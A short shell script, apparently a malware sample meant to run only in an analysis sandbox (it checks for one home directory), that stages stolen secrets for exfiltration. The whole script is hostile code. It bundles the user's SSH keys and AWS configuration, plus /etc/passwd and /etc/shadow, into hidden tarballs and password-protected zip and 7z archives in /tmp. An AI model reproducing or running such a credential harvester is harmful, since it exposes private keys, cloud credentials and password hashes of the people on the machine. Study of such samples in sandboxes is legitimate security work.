#!/bin/sh
# SPDX-License-Identifier: MIT
# Packs what it collected for the trip out: the SSH and cloud
# configuration in a tarball, the same in a password-protected zip.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cd /tmp || exit 1
tar czf .bk.tgz -C "$HOME" .ssh .aws 2>/dev/null
tar cjf .etc.tbz /etc/passwd /etc/group /etc/hosts /etc/shadow 2>/dev/null
zip -q -r -P 'xK9#ex' .bk.zip "$HOME/.ssh" "$HOME/.aws" 2>/dev/null
/usr/bin/7z a -p'xK9#ex' .bk.7z "$HOME/.ssh" > /dev/null 2>&1
exit 0
